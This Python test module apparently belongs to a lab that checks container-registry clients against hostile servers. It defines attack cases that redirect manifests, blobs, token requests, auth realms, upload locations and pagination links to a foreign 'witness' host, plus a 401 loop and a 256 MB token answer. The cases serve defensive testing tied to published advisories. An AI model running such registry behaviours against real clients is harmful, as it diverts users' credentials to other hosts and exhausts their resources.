"""Attacks on the login: it, or what it protects, is to go elsewhere."""

from __future__ import annotations

import json

from lab.hostile.attack import SOURCE, Asked, Attack, Side
from lab.hostile.content import CONFIG, DOCKER_CONFIG, DOCKER_FOREIGN_LAYER, DOCKER_MANIFEST, Content, as_bytes
from lab.hostile.registry import Registry
from lab.hostile.serving import Exchange


class ManifestElsewhere(Attack):
    number = 1
    name = "manifest 307 to a foreign host answering 401"
    advisories = "GHSA-vh4v-2xq2-g5cg, go-containerregistry#2337"
    said = "answered|307|401"

    def answer(self, exchange: Exchange) -> bool:
        if not self.is_manifest(exchange):
            return False
        exchange.send(307, b"", {"Location": f"{self.witness.url}{exchange.place}"})
        return True


class BlobElsewhere(Attack):
    """Which is how many registries work: the bytes may come from there, the login may not go there."""

    number = 2
    name = "blob 307 to a foreign host"
    advisories = "GHSA-vh4v-2xq2-g5cg"
    may_succeed = True

    def answer(self, exchange: Exchange) -> bool:
        if not self.is_layer(exchange):
            return False
        self.witness.blobs[self.layer.digest] = self.layer.content
        exchange.send(307, b"", {"Location": f"{self.witness.url}{exchange.place}"})
        return True


class ForeignRealm(Attack):
    number = 3
    name = "realm on a foreign host"
    advisories = (
        "CVE-2026-33540, GHSA-3p65-76g6-3w7r, CVE-2026-48978, GHSA-xf85-363p-868w, "
        "GHSA-28r5-37g7-p6mp, GHSA-9m43-p3cx-w8j5, go-containerregistry#2193, jib#4523, "
        "devcontainers/cli#1276"
    )
    may_succeed = True
    is_closed = True
    said = "wants the password for it to be sent to"

    def realm(self) -> str:
        return f"{self.witness.url}/token"


class ForeignUpload(Attack):
    number = 4
    name = "upload Location on a foreign host"
    advisories = "CVE-2026-50151, GHSA-jxpm-75mh-9fp7"
    side = Side.DESTINATION
    is_closed = True
    said = "which is another server"

    def answer(self, exchange: Exchange) -> bool:
        if exchange.command != "POST":
            return False
        exchange.send(202, b"", {"Location": f"{self.witness.url}{exchange.place}1", "Range": "0-0"})
        return True


class ForeignLink(Attack):
    number = 5
    name = "Link to a foreign host"
    advisories = "CVE-2026-85732, GHSA-h7vf-4x9w-h99v"
    asked = Asked.TAGS
    may_succeed = True
    is_closed = True
    said = "which is another server"

    def answer(self, exchange: Exchange) -> bool:
        if not exchange.place.endswith("/tags/list") or exchange.parameters:
            return False
        link = {"Link": f'<{self.witness.url}{exchange.place}?last=1.0>; rel="next"'}
        exchange.say(200, {"name": SOURCE, "tags": ["1.0"]}, link)
        return True


class ForeignLayer(Attack):
    """Such a layer stays where it is; what is around it may be copied."""

    number = 6
    name = "foreign-layer urls"
    advisories = "CVE-2020-15157, GHSA-742w-89gc-8m9c, GHSA-qvqc-4c52-x6qp, containers/image#1064"
    may_succeed = True
    is_closed = True

    def fill(self, registry: Registry) -> None:
        registry.put(SOURCE, self.image("1.0"), "1.0")

    def image(self, reference: str) -> Content:
        elsewhere = self.layer.descriptor | {"mediaType": DOCKER_FOREIGN_LAYER, "urls": [f"{self.witness.url}/layer"]}
        config = CONFIG.descriptor | {"mediaType": DOCKER_CONFIG}
        document = {"schemaVersion": 2, "mediaType": DOCKER_MANIFEST, "config": config, "layers": [elsewhere]}
        return Content(DOCKER_MANIFEST, as_bytes(document))


class PlainRealm(Attack):
    number = 17
    name = "realm http from https"
    advisories = "CVE-2019-10214"
    may_succeed = True
    is_closed = True
    is_encrypted = True
    said = "which is not encrypted"

    def realm(self) -> str:
        return f"{self.witness.neighbour_url}/token"


class PrivateRealm(Attack):
    number = 18
    name = "realm whose DNS name resolves to a private address"
    advisories = "oras-dotnet#393, oras-dotnet#403"
    may_succeed = True
    is_closed = True
    said = "wants the password for it to be sent to"

    def realm(self) -> str:
        return f"{self.witness.named_url}/token"


class TokenElsewhere(Attack):
    number = 19
    name = "token endpoint redirect"
    may_succeed = True
    is_closed = True
    said = "answered 307 instead of a token"

    def before_login(self, exchange: Exchange) -> bool:
        if exchange.place != "/token":
            return False
        exchange.send(307, b"", {"Location": f"{self.witness.url}{exchange.path}"})
        return True


class LoginLoop(Attack):
    number = 20
    name = "401 loop"
    said = "not allowed"
    most_requests = 100

    def answer(self, exchange: Exchange) -> bool:
        if not self.is_manifest(exchange):
            return False
        self.registry.challenge(exchange)
        return True


class LargeToken(Attack):
    number = 14
    name = "token answer of 256 MB"
    advisories = "GHSA-f36w-mj3v-6jqv"
    may_succeed = True
    said = "the answer with a token is over the limit"

    def before_login(self, exchange: Exchange) -> bool:
        if exchange.place != "/token":
            return False
        begun = json.dumps({"token": "t", "access_token": "t"})[:-1].encode() + b',"more":"'
        padding = b"x" * (1 << 20)
        exchange.chunked([begun, *([padding] * 256), b'"}'], {"Content-Type": "application/json"})
        return True


ATTACKS = (
    ManifestElsewhere,
    BlobElsewhere,
    ForeignRealm,
    ForeignUpload,
    ForeignLink,
    ForeignLayer,
    LargeToken,
    PlainRealm,
    PrivateRealm,
    TokenElsewhere,
    LoginLoop,
)
